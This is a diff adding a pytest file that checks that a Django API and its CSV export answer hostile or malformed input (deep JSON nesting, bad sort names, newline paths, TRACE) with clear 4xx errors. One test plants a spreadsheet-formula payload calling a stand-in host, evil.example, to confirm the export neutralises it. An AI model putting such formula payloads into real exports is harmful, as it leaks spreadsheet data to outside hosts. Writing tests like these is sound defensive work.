@@ -1,0 +1,124 @@
+"""Inputs an attacker or a careless script sends answer a clear 4xx, never a 500 (issue 13, defects 6, 8, 12, 15)."""
+
+import csv
+import io
+import re
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from tests.indicators.score_rows import score_run_create, scores_create
+
+pytestmark = pytest.mark.django_db
+
+NESTED = "[" * 1000
+
+
+@pytest.fixture
+def scored(country_a, country_b):
+    run = score_run_create()
+    scores_create(country=country_a, overall=[40, 45, 50], run=run)
+    scores_create(country=country_b, overall=[20, 22, 30], run=run)
+    return run
+
+
+@pytest.fixture
+def page_client(victor):
+    client = Client(raise_request_exception=False)
+    client.force_login(victor)
+    return client
+
+
+@pytest.fixture
+def api_clients(persona_clients):
+    for client in persona_clients.values():
+        client.raise_request_exception = False
+    return persona_clients
+
+
+@pytest.mark.parametrize("sort", [",", ",,", ",,,,"])
+def test_an_empty_sort_name_ranks_as_the_default_on_the_api_overview_and_export(api_clients, page_client, scored, sort):
+    """`sort=,` and its variants sort as if no order were given, on all three readers of the filter."""
+    api = api_clients["victor"].get("/api/v1/scores/", {"sort": sort})
+    assert api.status_code == 200
+    assert [row["country"]["iso3"] for row in api.json()["results"]] == ["QAA", "QBB"]
+    assert page_client.get(reverse("indicators:overview"), {"sort": sort}).status_code == 200
+    assert page_client.get(reverse("indicators:overview_export"), {"sort": sort}).status_code == 200
+
+
+@pytest.mark.parametrize("sort", ["-", "-,", ",-,country", "country,,nonsense"])
+def test_a_sort_with_an_unknown_name_answers_400_on_the_api_and_export(api_clients, page_client, scored, sort):
+    """A sort naming nothing sortable is refused as a clear 400 (the page shows unsorted and says so), never 500."""
+    api = api_clients["victor"].get("/api/v1/scores/", {"sort": sort})
+    assert api.status_code == 400
+    assert "sort" in api.json()["error"]["fields"]
+    assert page_client.get(reverse("indicators:overview"), {"sort": sort}).status_code == 200
+    assert page_client.get(reverse("indicators:overview_export"), {"sort": sort}).status_code == 400
+
+
+def _write_operations(client) -> list[tuple[str, str]]:
+    schema = client.get("/api/schema/", {"format": "json"}).json()
+    operations = []
+    for path, item in schema["paths"].items():
+        concrete = re.sub(r"\{iso3\}", "QAA", re.sub(r"\{(id|number|version|code)\}", "1", path))
+        operations += [(method, concrete) for method in ("post", "put", "patch") if method in item]
+    return operations
+
+
+def test_a_json_body_nested_a_thousand_deep_answers_400_on_every_api_write(api_clients, country_a):
+    """RecursionError never escapes: each write operation refuses the body (or the missing object) with a 4xx."""
+    client = api_clients["alice"]
+    operations = _write_operations(client)
+    assert len(operations) >= 5
+    for method, path in operations:
+        response = getattr(client, method)(path, data=NESTED, content_type="application/json")
+        assert 400 <= response.status_code < 500, (method, path, response.status_code)
+        if response.status_code == 400:
+            assert "nests too deeply" in response.json()["error"]["message"] or response.json()["error"]["fields"]
+
+
+def test_a_deeply_nested_bulk_body_is_refused_with_a_message_naming_the_limit(api_clients, country_a):
+    """The bulk endpoint says why: the JSON nests too deeply."""
+    response = api_clients["alice"].post("/api/v1/assessments/bulk/", data=NESTED, content_type="application/json")
+    assert response.status_code == 400
+    assert "nests too deeply" in response.json()["error"]["message"]
+
+
+def test_moderately_nested_json_under_the_recursion_limit_is_refused_too(api_clients, country_a):
+    """Depth beyond any real request (but within Python's decoder) is refused before any serializer walks it."""
+    body = "[" * 200 + "]" * 200
+    response = api_clients["alice"].post("/api/v1/assessments/bulk/", data=body, content_type="application/json")
+    assert response.status_code == 400
+    assert "nests too deeply" in response.json()["error"]["message"]
+
+
+@pytest.mark.parametrize("path", ["/api/v1/countries/QA%0A/", "/api/v1/countries/QAA%0A/", "/api/v1/nowhere%0A"])
+def test_an_api_path_with_a_newline_answers_the_json_404(api_clients, path):
+    """Ids holding a newline get the API's error body, not Django's HTML page."""
+    response = api_clients["victor"].get(path)
+    assert response.status_code == 404
+    assert response["Content-Type"].startswith("application/json")
+    assert response.json()["error"]["code"] == "not_found"
+
+
+@pytest.mark.parametrize("path", ["/api/v1/scores/", "/api/v1/countries/QAA/", "/api/v1/nowhere/"])
+def test_trace_answers_405_on_api_paths(api_clients, country_a, path):
+    """TRACE is never a supported method; unknown API paths included, it answers 405 rather than 404."""
+    response = api_clients["victor"].generic("TRACE", path)
+    assert response.status_code == 405
+
+
+def test_the_overview_export_neutralises_spreadsheet_formulas_in_names(page_client, scored, country_a, desk_a):
+    """A name an administrator typed as =HYPERLINK(...) comes out as text, as the API's CSV already did."""
+    country_a.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    country_a.save(update_fields=["name"])
+    desk_a.name = "@SUM(1+1)"
+    desk_a.save(update_fields=["name"])
+    response = page_client.get(reverse("indicators:overview_export"))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    header = rows[0]
+    row = next(row for row in rows[1:] if row[0] == "QAA")
+    assert row[header.index("name") if "name" in header else 1].startswith("'=HYPERLINK")
+    assert "'@SUM(1+1)" in row
+    assert not any(cell.startswith(("=", "@", "+")) for line in rows[1:] for cell in line)
